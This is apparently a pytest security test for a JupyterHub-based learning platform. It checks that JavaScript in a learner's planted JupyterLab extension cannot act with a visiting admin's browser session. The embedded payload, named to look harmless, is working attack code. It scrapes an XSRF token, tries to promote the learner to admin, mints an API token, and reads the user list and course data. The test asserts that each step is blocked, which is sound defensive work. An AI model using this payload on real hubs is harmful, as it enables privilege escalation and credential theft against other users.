"""An admin who opens a learner's server runs the learner's JavaScript; it must not act as the admin.

The learner puts a JupyterLab extension into their own home (``~/.local/share/jupyter/
labextensions``, which JupyterLab loads for whoever opens the server). Its script, the moment it
loads, does what such a script would: read a hub page for the XSRF token, make the learner a hub
admin, mint an API token for the visitor, read the hub's user list and the LMS service's data,
all with the visitor's browser credentials. With per-user origins (the default) every one of
these fails in the browser; the hub and the service are checked afterwards for any trace.
"""

from __future__ import annotations

import json
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from ..browser.conftest import (  # noqa: F401 - fixtures for this module
    browser,
    browser_context,
    jp_asyncio_loop,
    jp_server_cleanup,
    pytest_runtest_makereport,
    with_session_cookies,
)
from ..hubctl import Hub
from ..spawn.accounts import admin_login
from .kernel import Kernel

ADMIN = "visitadmin"
LEARNER = "eve"
EXTENSION = "lms-course-helper"  # a harmless-looking name

ATTACK = r"""
(function () {
  var report = window.__lmsAttack = {ran: true, done: false, cookies: document.cookie};
  var config = JSON.parse(document.getElementById('jupyter-config-data').textContent);
  var hub = (config.hubHost || '') + (config.hubPrefix || '/hub/');
  var service = SERVICE_URL;
  report.visitor = config.hubUser;
  function attempt(name, run) {
    return run().then(function (value) { report[name] = value; },
                      function (error) { report[name] = 'blocked: ' + error; });
  }
  var xsrf = null;
  var steps = [
    attempt('hub_page', function () {
      return fetch(hub + 'home', {credentials: 'include'}).then(function (r) { return r.text(); })
        .then(function (text) {
          var m = text.match(/xsrf[_-]?token["']?\s*[:=]\s*["']([^"']+)/i);
          xsrf = m ? m[1] : null;
          return m ? 'xsrf token read' : 'page read, no token';
        });
    }),
  ];
  Promise.all(steps).then(function () {
    var headers = {'Content-Type': 'application/json'};
    if (xsrf) { headers['X-XSRFToken'] = xsrf; }
    return Promise.all([
      attempt('make_admin', function () {
        return fetch(hub + 'api/users/LEARNER', {method: 'PATCH', credentials: 'include',
          headers: headers, body: JSON.stringify({admin: true})})
          .then(function (r) { return r.status; });
      }),
      attempt('mint_token', function () {
        return fetch(hub + 'api/users/' + config.hubUser + '/tokens', {method: 'POST',
          credentials: 'include', headers: headers, body: JSON.stringify({note: 'pwned'})})
          .then(function (r) { return r.status; });
      }),
      attempt('list_users', function () {
        return fetch(hub + 'api/users', {credentials: 'include', headers: headers})
          .then(function (r) { return r.status + ' ' + r.text().length; });
      }),
      attempt('service_data', function () {
        return fetch(service + '/api/courses/dl-basics/progress', {credentials: 'include'})
          .then(function (r) { return r.status; });
      }),
    ]);
  }).then(function () { report.done = true; });
})();
var _JUPYTERLAB = window._JUPYTERLAB = window._JUPYTERLAB || {};
_JUPYTERLAB['EXTENSION'] = {
  init: function () { return Promise.resolve(); },
  get: function () { return Promise.resolve(function () { return {default: []}; }); }
};
"""


def plant_extension(hub: Hub) -> None:
    """The learner writes the extension into their home from their own kernel."""
    script = (ATTACK.replace("SERVICE_URL", json.dumps(hub.service_url("lms")))
              .replace("LEARNER", LEARNER).replace("EXTENSION", EXTENSION))
    package = {"name": EXTENSION, "version": "1.0.0",
               "jupyterlab": {"extension": True,
                              "_build": {"load": "static/remoteEntry.js",
                                         "extension": "./extension"}}}
    code = (
        "import json, os\n"
        f"root = os.path.expanduser('~/.local/share/jupyter/labextensions/{EXTENSION}')\n"
        "os.makedirs(root + '/static', exist_ok=True)\n"
        f"open(root + '/package.json', 'w').write(json.dumps({package!r}))\n"
        f"open(root + '/static/remoteEntry.js', 'w').write({script!r})\n"
        "print('planted')"
    )
    def run():
        kernel = Kernel(hub, LEARNER)
        try:
            return kernel.run(code)
        finally:
            kernel.shutdown()

    # Playwright's driver holds this thread's event loop: the kernel client runs in another
    with ThreadPoolExecutor(1) as pool:
        result = pool.submit(run).result()
    assert result.stdout.strip() == "planted", result


@pytest.fixture(scope="module")
def hub(docker_engine, content_remote, run_id, tmp_path_factory):
    """The platform's defaults: per-user origins (LMS_SUBDOMAIN_HOST unset) on the lesson
    network, with a configured admin."""
    hub = Hub(tmp_path_factory.mktemp("visit-hub"), str(content_remote), f"{run_id}-visit",
              {"LMS_SUBDOMAIN_HOST": "", "LMS_ADMIN_USERS": ADMIN, "LMS_IDLE_TIMEOUT": "0"})
    hub.start()
    yield hub
    hub.stop()


def test_learner_javascript_cannot_act_as_a_visiting_admin(hub, browser_context):
    assert hub.subdomains
    hub.create_user(LEARNER)
    r = hub.start_lesson(LEARNER, "dl-basics/python-basics")
    assert r.status_code in (201, 202), r.text
    hub.wait_ready(LEARNER)
    plant_extension(hub)
    tokens_before = hub.api("GET", f"/users/{ADMIN}/tokens").json()["api_tokens"]

    with_session_cookies(browser_context, admin_login(hub, ADMIN), hub.url)
    page = browser_context.new_page()
    page.goto(f"{hub.user_url(LEARNER)}/user/{LEARNER}/lab")
    # the hub asks an admin to confirm access to someone else's server, as it does
    if "/hub/api/oauth2/authorize" in page.url:
        page.click("button:has-text('Authorize')")
    page.wait_for_function("window.__lmsAttack && window.__lmsAttack.done", timeout=90_000)
    report = page.evaluate("window.__lmsAttack")
    assert report["ran"] and report["visitor"] == ADMIN, report  # the admin did run it

    # in the browser: nothing of the hub or the service was readable or writable
    assert not str(report["hub_page"]).startswith("xsrf token read"), report
    for step in ("make_admin", "mint_token", "list_users", "service_data"):
        assert str(report[step]).startswith("blocked"), (step, report)
    assert "jupyterhub-session-id" not in report["cookies"], report
    assert "jupyterhub-hub-login" not in report["cookies"], report

    # on the hub: no trace
    time.sleep(1)
    assert hub.api("GET", f"/users/{LEARNER}").json()["admin"] is False
    # (the one new token is the admin's own access to the learner's server, from the hub's
    # OAuth, scoped to that server; nothing the script asked for)
    tokens_after = hub.api("GET", f"/users/{ADMIN}/tokens").json()["api_tokens"]
    new = [t for t in tokens_after if t["id"] not in {b["id"] for b in tokens_before}]
    assert len(new) <= 1 and all(t["note"] != "pwned" for t in new), new
    assert all(f"/user/{LEARNER}/" in (t.get("oauth_client") or "") for t in new), new
    hub.stop_server(LEARNER)
